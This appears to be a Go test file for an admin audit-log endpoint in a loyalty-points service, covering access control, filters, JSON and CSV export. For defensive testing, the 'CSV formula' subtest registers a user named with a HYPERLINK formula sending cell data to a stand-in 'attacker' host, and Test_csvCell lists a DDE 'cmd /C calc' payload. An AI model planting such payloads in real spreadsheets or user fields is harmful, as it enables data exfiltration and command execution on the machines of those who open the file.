@@ -0,0 +1,174 @@
+package handlers
+
+import (
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"net/http"
+	"net/http/cookiejar"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/go-chi/chi"
+	"github.com/rs/zerolog"
+	"github.com/stretchr/testify/require"
+
+	"github.com/t1mon-ggg/gophermart/internal/pkg/models"
+)
+
+func TestGophermart_Audit(t *testing.T) {
+	zerolog.SetGlobalLevel(zerolog.DebugLevel)
+	jar, _, s := newMemoryServer(t)
+	s.Config.TrustedProxies, _ = models.ParseNetworks("127.0.0.1")
+	r := chi.NewRouter()
+	r.Route("/", s.Router)
+	ts := httptest.NewServer(r)
+	defer ts.Close()
+	userJar, err := cookiejar.New(nil)
+	require.NoError(t, err)
+	ctype := map[string]string{"Content-Type": "application/json", "X-Real-IP": "10.1.1.1"}
+	response, _ := testRequest(t, ts, jar, http.MethodPost, "/api/user/register", userReq(t, models.User{Name: "admin111", Password: "password111"}), ctype)
+	require.Equal(t, http.StatusOK, response.StatusCode)
+	require.NoError(t, s.db.SetRole(context.Background(), "admin111", models.RoleSupport))
+	response, _ = testRequest(t, ts, userJar, http.MethodPost, "/api/user/register", userReq(t, models.User{Name: "user111", Password: "password111"}), ctype)
+	require.Equal(t, http.StatusOK, response.StatusCode)
+	response, _ = testRequest(t, ts, userJar, http.MethodPost, "/api/user/login", userReq(t, models.User{Name: "user111", Password: "wrong"}), ctype)
+	require.Equal(t, http.StatusUnauthorized, response.StatusCode)
+	response, _ = testRequest(t, ts, userJar, http.MethodPost, "/api/user/login", userReq(t, models.User{Name: "user111", Password: "password111"}), ctype)
+	require.Equal(t, http.StatusOK, response.StatusCode)
+	response, _ = testRequest(t, ts, userJar, http.MethodPost, "/api/user/orders", "79927398713", map[string]string{"Content-Type": "text/plain", "X-Real-IP": "10.1.1.1"})
+	require.Equal(t, http.StatusAccepted, response.StatusCode)
+	_, err = s.db.CompleteOrder(context.Background(), "79927398713", "user111", "", "PROCESSED", 10000)
+	require.NoError(t, err)
+	response, _ = testRequest(t, ts, userJar, http.MethodPost, "/api/user/balance/withdraw", `{"order":"12345678903","sum":40}`, ctype)
+	require.Equal(t, http.StatusOK, response.StatusCode)
+
+	t.Run("Forbidden", func(t *testing.T) {
+		response, _ := testRequest(t, ts, userJar, http.MethodGet, "/api/admin/audit", "", nil)
+		require.Equal(t, http.StatusForbidden, response.StatusCode)
+	})
+	t.Run("JSON", func(t *testing.T) {
+		response, body := testRequest(t, ts, jar, http.MethodGet, "/api/admin/audit?target=user:user111", "", nil)
+		require.Equal(t, http.StatusOK, response.StatusCode)
+		events := make([]models.AuditEvent, 0)
+		require.NoError(t, json.Unmarshal([]byte(body), &events))
+		actions := make([]string, 0)
+		for _, e := range events {
+			actions = append(actions, e.Action)
+		}
+		require.Equal(t, []string{actionRegister, actionLoginFailed, actionLogin, "ledger.accrual", "ledger.withdrawal", actionWithdraw}, actions)
+		require.Equal(t, "wrong password", events[1].Reason)
+		require.Equal(t, "10.1.1.1", events[0].IP)
+		require.NotEmpty(t, events[0].RequestID)
+		require.JSONEq(t, `{"balance":100}`, string(events[4].Before))
+		require.JSONEq(t, `{"order":"12345678903","sum":40}`, string(events[5].After))
+		require.Equal(t, "user111", events[5].Actor)
+		require.NotEmpty(t, response.Header.Get("X-Next-After"))
+	})
+	t.Run("Filters", func(t *testing.T) {
+		tests := []struct {
+			name  string
+			query string
+			want  int
+			count int
+		}{
+			{name: "Action", query: "?action=order.upload", want: http.StatusOK, count: 1},
+			{name: "Actor and limit", query: "?actor=user111&limit=2", want: http.StatusOK, count: 2},
+			{name: "Cursor", query: "?actor=user111&after=100", want: http.StatusOK, count: 0},
+			{name: "Period", query: "?from=2000-01-01T00:00:00Z&to=2001-01-01T00:00:00Z", want: http.StatusOK, count: 0},
+			{name: "Invalid time", query: "?from=yesterday", want: http.StatusBadRequest},
+			{name: "Invalid format", query: "?format=xml", want: http.StatusBadRequest},
+			{name: "Zero limit", query: "?limit=0", want: http.StatusBadRequest},
+			{name: "Negative limit", query: "?limit=-5", want: http.StatusBadRequest},
+			{name: "Invalid limit", query: "?limit=all", want: http.StatusBadRequest},
+		}
+		for _, tt := range tests {
+			t.Run(tt.name, func(t *testing.T) {
+				response, body := testRequest(t, ts, jar, http.MethodGet, "/api/admin/audit"+tt.query, "", nil)
+				require.Equal(t, tt.want, response.StatusCode)
+				if tt.want != http.StatusOK {
+					return
+				}
+				events := make([]models.AuditEvent, 0)
+				require.NoError(t, json.Unmarshal([]byte(body), &events))
+				require.Len(t, events, tt.count)
+			})
+		}
+	})
+	t.Run("CSV", func(t *testing.T) {
+		response, body := testRequest(t, ts, jar, http.MethodGet, "/api/admin/audit?action=order.upload&format=csv", "", nil)
+		require.Equal(t, http.StatusOK, response.StatusCode)
+		require.Equal(t, "text/csv", response.Header.Get("Content-Type"))
+		records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, records, 2)
+		require.Equal(t, "actor", records[0][2])
+		require.Equal(t, []string{"user111", actionOrderUpload, "order:79927398713"}, records[1][2:5])
+		require.JSONEq(t, `{"status":"NEW","user":"user111"}`, records[1][9])
+	})
+	t.Run("CSV formula", func(t *testing.T) {
+		login := `=HYPERLINK("http://attacker/"&A1,"open")`
+		evilJar, err := cookiejar.New(nil)
+		require.NoError(t, err)
+		response, _ := testRequest(t, ts, evilJar, http.MethodPost, "/api/user/register", userReq(t, models.User{Name: login, Password: "password111"}), ctype)
+		require.Equal(t, http.StatusOK, response.StatusCode)
+		response, body := testRequest(t, ts, jar, http.MethodGet, "/api/admin/audit?action=user.register&format=csv", "", nil)
+		require.Equal(t, http.StatusOK, response.StatusCode)
+		records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		require.NoError(t, err)
+		last := records[len(records)-1]
+		require.Equal(t, "'"+login, last[2])
+		require.Equal(t, "user:"+login, last[4])
+	})
+}
+
+func Test_csvCell(t *testing.T) {
+	tests := []struct {
+		value string
+		want  string
+	}{
+		{value: "user111", want: "user111"},
+		{value: "", want: ""},
+		{value: "=1+1", want: "'=1+1"},
+		{value: "+cmd|' /C calc'!A0", want: "'+cmd|' /C calc'!A0"},
+		{value: "-2", want: "'-2"},
+		{value: "@SUM(A1)", want: "'@SUM(A1)"},
+		{value: "\tvalue", want: "'\tvalue"},
+		{value: "\rvalue", want: "'\rvalue"},
+		{value: "a=b", want: "a=b"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.value, func(t *testing.T) {
+			require.Equal(t, tt.want, csvCell(tt.value))
+		})
+	}
+}
+
+func Test_auditFilter(t *testing.T) {
+	zerolog.SetGlobalLevel(zerolog.DebugLevel)
+	tests := []struct {
+		query   string
+		limit   int
+		wantErr bool
+	}{
+		{query: "", limit: auditDefaultLimit},
+		{query: "?limit=1", limit: 1},
+		{query: "?limit=10000", limit: auditMaxLimit},
+		{query: "?limit=1000000", limit: auditMaxLimit},
+		{query: "?limit=0", wantErr: true},
+		{query: "?limit=-1", wantErr: true},
+		{query: "?limit=ten", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.query, func(t *testing.T) {
+			filter, err := auditFilter(httptest.NewRequest(http.MethodGet, "/api/admin/audit"+tt.query, nil))
+			if tt.wantErr {
+				require.Error(t, err)
+				return
+			}
+			require.NoError(t, err)
+			require.Equal(t, tt.limit, filter.Limit)
+		})
+	}
+}